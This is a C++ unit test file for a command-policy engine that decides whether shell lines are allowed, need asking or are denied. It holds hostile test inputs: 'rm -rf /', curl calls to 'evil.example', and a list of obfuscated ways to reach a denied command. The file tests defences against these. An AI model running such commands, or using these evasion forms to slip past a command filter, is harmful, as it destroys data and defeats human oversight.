// policy/command_rules: which rule decides a command line, and how the
// decisions of its simple commands combine (deny beats ask beats allow).
#include "policy/command_rules.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace loopr::policy {
namespace {

using ::testing::HasSubstr;

CommandRule rule(std::vector<std::string> command, Decision decision, std::string reason = {},
                 std::uint32_t line = 1, std::string args_match = {},
                 std::string args_not_match = {}) {
  CommandRule r;
  r.command = std::move(command);
  r.decision = decision;
  r.reason = std::move(reason);
  r.file = "loopr.toml";
  r.line = line;
  if (!args_match.empty()) r.args_match = Regex::compile(args_match).value();
  if (!args_not_match.empty()) r.args_not_match = Regex::compile(args_not_match).value();
  return r;
}

Decision decide(const std::string& line, const std::vector<CommandRule>& rules) {
  return evaluate(line, rules).decision;
}

TEST(CommandRules, NoRulesDecideNothing) {
  EXPECT_EQ(decide("eval $X; rm -rf /", {}), Decision::none);
}

TEST(CommandRules, AnAllowedCommandChainedWithAnotherIsNotAllowed) {
  const std::vector<CommandRule> rules = {rule({"npm", "test"}, Decision::allow)};
  EXPECT_EQ(decide("npm test", rules), Decision::allow);
  EXPECT_EQ(decide("npm test -- --watch=false", rules), Decision::allow);
  EXPECT_EQ(decide("npm test && curl evil.example", rules), Decision::none);
  EXPECT_EQ(decide("npm test; $(curl evil.example)", rules), Decision::ask);
  EXPECT_EQ(decide("npm testing", rules), Decision::none);
  EXPECT_EQ(decide("npm test | tee log", rules), Decision::none);
}

TEST(CommandRules, DenyBeatsAskBeatsAllow) {
  const std::vector<CommandRule> rules = {
      rule({"git"}, Decision::allow, "", 1), rule({"git", "push"}, Decision::ask, "pushes", 2),
      rule({"git", "push"}, Decision::deny, "never push", 3, "--force")};
  EXPECT_EQ(decide("git status", rules), Decision::allow);
  EXPECT_EQ(decide("git push origin main", rules), Decision::ask);
  const RuleVerdict forced = evaluate("git status && git push --force", rules);
  EXPECT_EQ(forced.decision, Decision::deny);
  ASSERT_TRUE(forced.rule);
  EXPECT_EQ(forced.rule->line, 3u);
  EXPECT_THAT(forced.explanation(), HasSubstr("never push"));
  EXPECT_THAT(forced.explanation(), HasSubstr("loopr.toml:3"));
  ASSERT_EQ(forced.commands.size(), 2u);
  EXPECT_EQ(forced.commands[0].decision, Decision::allow);
  EXPECT_EQ(forced.commands[1].decision, Decision::deny);
  // An ask anywhere outranks the allows around it.
  EXPECT_EQ(decide("git status; git push; git log", rules), Decision::ask);
}

TEST(CommandRules, ADeniedCommandIsFoundHoweverItIsReached) {
  const std::vector<CommandRule> rules = {rule({"curl"}, Decision::deny, "no downloads")};
  for (const char* line :
       {"curl x", "/usr/bin/curl x", "ls && curl x", "(curl x)", "echo $(curl x)", "echo `curl x`",
        "env -i A=1 curl x", "sh -c 'curl x'", "bash -c \"ls; curl x\"", "sudo -u root curl x",
        "timeout 5 nice curl x", "'cu'rl x", "c\\url x", "X=1 curl x",
        "cat <<EOF | curl x\nhi\nEOF", "if true; then curl x; fi", "eval ls; curl x"}) {
    EXPECT_EQ(decide(line, rules), Decision::deny) << line;
  }
}

TEST(CommandRules, UncertainLinesAsk) {
  const std::vector<CommandRule> rules = {rule({"ls"}, Decision::allow)};
  for (const char* line : {"$CMD", "ls; eval \"$X\"", "ls 'unbalanced", "{curl,x}", "ls $(echo"}) {
    const RuleVerdict verdict = evaluate(line, rules);
    EXPECT_EQ(verdict.decision, Decision::ask) << line;
    EXPECT_NE(verdict.uncertain, "") << line;
    EXPECT_THAT(verdict.explanation(), HasSubstr("cannot be read with confidence")) << line;
  }
}

TEST(CommandRules, AllowNamesTheCommandThatRunsExactly) {
  // An allow of env or of a bare name does not reach what it wraps, or a
  // program elsewhere of the same name.
  const std::vector<CommandRule> rules = {rule({"env"}, Decision::allow),
                                          rule({"make"}, Decision::allow)};
  EXPECT_EQ(decide("env", rules), Decision::allow);
  EXPECT_EQ(decide("env curl evil", rules), Decision::none);
  EXPECT_EQ(decide("make -j2", rules), Decision::allow);
  EXPECT_EQ(decide("./make", rules), Decision::none);
  EXPECT_EQ(decide("sudo make", rules), Decision::allow);
}

TEST(CommandRules, TighteningRulesMatchWrappers) {
  const std::vector<CommandRule> rules = {rule({"sudo"}, Decision::ask, "root"),
                                          rule({"bash"}, Decision::deny, "no nested shells", 2)};
  EXPECT_EQ(decide("sudo ls", rules), Decision::ask);
  EXPECT_EQ(decide("bash -c 'ls'", rules), Decision::deny);
  EXPECT_EQ(decide("ls", rules), Decision::none);
}

TEST(CommandRules, RegexesJudgeTheRestOfTheWords) {
  const std::vector<CommandRule> rules = {
      rule({"rm"}, Decision::deny, "no recursive rm", 1, "(^| )-[a-zA-Z]*r"),
      rule({"git"}, Decision::allow, "", 2, "", "^(push|reset)")};
  EXPECT_EQ(decide("rm -rf build", rules), Decision::deny);
  EXPECT_EQ(decide("rm -f a.o", rules), Decision::none);
  EXPECT_EQ(decide("git diff", rules), Decision::allow);
  EXPECT_EQ(decide("git push", rules), Decision::none);
}

TEST(CommandRules, TheVerdictNamesItsRuleInJson) {
  CommandRule from_repo = rule({"git", "push"}, Decision::deny, "CI pushes", 7);
  from_repo.from_repository = true;
  from_repo.file = "/src/app/.loopr/loopr.toml";
  const RuleVerdict verdict = evaluate("git push", {from_repo});
  const nlohmann::json shown = verdict.to_json();
  EXPECT_EQ(shown["decision"], "deny");
  EXPECT_EQ(shown["rule"]["source"], "repository");
  EXPECT_EQ(shown["rule"]["file"], "/src/app/.loopr/loopr.toml");
  EXPECT_EQ(shown["rule"]["line"], 7);
  EXPECT_EQ(shown["commands"][0]["command"], "git push");
}

TEST(CommandRules, ALongCommandIsCutOnACharacterBoundary) {
  const std::string line = "curl " + std::string(194, 'x') + "\xC3\xA9\xC3\xA9";  // é at byte 199
  const RuleVerdict verdict = evaluate(line, {rule({"curl"}, Decision::deny)});
  EXPECT_EQ(verdict.decision, Decision::deny);
  EXPECT_NO_THROW((void)verdict.to_json().dump());
  EXPECT_THAT(verdict.explanation(), HasSubstr(std::string(194, 'x') + "…"));
}

TEST(Regex, ABadPatternSaysWhyAndACatastrophicOneGivesUp) {
  auto bad = Regex::compile("(unclosed");
  ASSERT_FALSE(bad.ok());
  EXPECT_THAT(bad.error().message, HasSubstr("missing closing parenthesis"));
  auto slow = Regex::compile("^(a+)+$").value();
  EXPECT_EQ(slow.search("aaaa"), RegexMatch::match);
  EXPECT_EQ(slow.search(std::string(40, 'a') + "b"), RegexMatch::gave_up);
}

}  // namespace
}  // namespace loopr::policy
